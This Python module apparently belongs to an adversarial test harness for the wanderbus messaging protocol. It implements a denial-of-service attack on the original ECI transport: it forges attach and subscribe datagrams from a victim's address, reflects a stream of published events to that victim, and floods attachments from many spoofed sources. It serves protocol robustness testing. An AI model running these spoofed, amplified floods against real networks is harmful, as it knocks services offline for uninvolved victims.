"""Attacks on the original ECI: victims by forged addresses, and a flood of strangers."""

from __future__ import annotations

import asyncio
import itertools
import socket

import msgspec

from hostile.attack import Attack, Report, Target
from hostile.datagrams import FROM_PORT, HEADERS_BYTES, HOLE, Make, flood, ticks
from hostile.network import ATTACKER, SOURCES, VICTIM
from wanderbus import protocol
from wanderbus.event import Event

SUBJECT = "Flood"
"""A subject of the attacker's own, so that good agents are not sent its events."""

VICTIM_PORTS = 100
FORGE_S = 2.0
EVENTS_PER_S = 50
EVENT_BYTES = 1_000
STRANGERS_PER_S = 2_000
ANSWER_S_MAX = 1.0

_ATTACH = protocol.encode(protocol.Attach(1, "default", None, keep=True))
_SUBSCRIBE = protocol.encode(protocol.Subscribe(1, SUBJECT, "", None, (), False, reader=1))


async def _forge(target: Target) -> Report:
    """Attach and subscribe for many ports of the victim, one after the other."""
    brief = msgspec.structs.replace(target, seconds=FORGE_S / VICTIM_PORTS)
    total = dict.fromkeys(("sent", "sent_bytes"), 0.0)
    for port in range(FROM_PORT, FROM_PORT + VICTIM_PORTS):
        for datagram in (_ATTACH, _SUBSCRIBE):
            report = await flood(brief, target.eci_port, _always(datagram), 100, sources=[VICTIM], from_port=port)
            for name in total:
                total[name] += report[name]
    return total


def _always(datagram: bytes) -> Make:
    return lambda number: datagram


async def _publish(target: Target) -> Report:
    """Attach at the attacker's own address, and publish what the victim was subscribed to."""
    loop, numbers = asyncio.get_running_loop(), itertools.count(1)
    sent = sent_bytes = 0
    with socket.socket(type=socket.SOCK_DGRAM) as own:
        own.setblocking(False)
        own.bind((ATTACKER if target.server != HOLE else HOLE, 0))
        own.connect((target.server, target.eci_port))

        def send(datagram: bytes) -> None:
            nonlocal sent, sent_bytes
            try:
                own.send(datagram)
            except OSError:
                return
            sent, sent_bytes = sent + 1, sent_bytes + HEADERS_BYTES + len(datagram)

        send(_ATTACH)
        try:
            challenge = await asyncio.wait_for(loop.sock_recv(own, 100), ANSWER_S_MAX)
            send(challenge + _ATTACH)
        except (TimeoutError, OSError):
            pass  # nobody answers in a hole
        async for count in ticks(EVENTS_PER_S, target.seconds - ANSWER_S_MAX):
            for _ in range(count):
                send(protocol.encode(protocol.Publish(next(numbers), Event(SUBJECT, {"text": "x" * EVENT_BYTES}))))
    return {"sent": sent, "sent_bytes": sent_bytes}


async def _eci(target: Target) -> Report:
    """Run all at once; the flood from many sources is not counted as sent, because none of it targets the victim."""
    forged, published, strange = await asyncio.gather(
        _forge(target),
        _publish(target),
        flood(target, target.eci_port, _always(_ATTACH), STRANGERS_PER_S, sources=SOURCES, from_port=FROM_PORT - 1),
    )
    counted = {name: forged[name] + published[name] for name in ("sent", "sent_bytes")}
    return {**counted, "strangers_sent": strange["sent"]}


ATTACKS = (
    Attack(
        "eci_flood",
        "own",
        "original ECI: 2,000 attachments/s of a thousand sources, and a victim subscribed by forgery to 50 events/s",
        _eci,
        has_hole=True,
        amplification=True,
        eci=True,
    ),
)
